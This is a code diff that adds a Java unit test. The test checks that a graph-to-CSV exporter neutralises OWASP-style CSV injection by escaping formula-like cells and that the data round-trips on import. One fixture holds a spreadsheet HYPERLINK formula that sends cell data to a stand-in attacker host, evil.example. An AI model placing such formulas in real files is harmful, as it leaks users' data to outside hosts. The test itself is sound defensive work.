@@ -133,4 +133,28 @@ class GraphCsvTest {
     assertThat(shortRow).isNotNull();
     assertThat(shortRow.errors().get(0).pointer()).isEqualTo("row 3");
   }
+
+  /** OWASP CSV injection: a cell a spreadsheet would run as a formula is exported as text, and imports unchanged. */
+  @Test
+  void formulaLikeTextIsExportedAsTextAndImportsUnchanged() {
+    GraphNode formula = new GraphNode("symptom:=1+1", GraphNode.TypeEnum.SYMPTOM,
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")").properties(new LinkedHashMap<>());
+    GraphNode at = new GraphNode("equipment:CNC-B01", GraphNode.TypeEnum.EQUIPMENT, "@SUM(1+1)")
+        .properties(new LinkedHashMap<>());
+    GraphNode minus = new GraphNode("failure-mode:-wear", GraphNode.TypeEnum.FAILURE_MODE, "-2+3")
+        .properties(new LinkedHashMap<>());
+    Subgraph g = new Subgraph(List.of(formula, at, minus), List.of(new GraphEdge("equipment:CNC-B01",
+        GraphEdge.TypeEnum.HAS_FAILURE_MODE, "failure-mode:-wear").weight(-0.5)));
+    List<List<String>> rows = Csv.parse(GraphCsv.write(g, JSON));
+    assertThat(rows.get(1).get(1)).isEqualTo("symptom:=1+1");
+    assertThat(rows.get(1).get(3)).startsWith("'=HYPERLINK(");
+    assertThat(rows.get(2).get(3)).isEqualTo("'@SUM(1+1)");
+    assertThat(rows.get(3).get(1)).as("only a leading character counts").isEqualTo("failure-mode:-wear");
+    assertThat(rows.get(3).get(3)).isEqualTo("'-2+3");
+    assertThat(rows.get(4).get(4)).as("a number stays a number").isEqualTo("-0.5");
+    Subgraph back = GraphCsv.read(GraphCsv.write(g, JSON), JSON);
+    assertThat(back.getNodes()).extracting(GraphNode::getName)
+        .containsExactly(formula.getName(), "@SUM(1+1)", "-2+3");
+    assertThat(back.getEdges().get(0).getWeight()).isEqualTo(-0.5);
+  }
 }
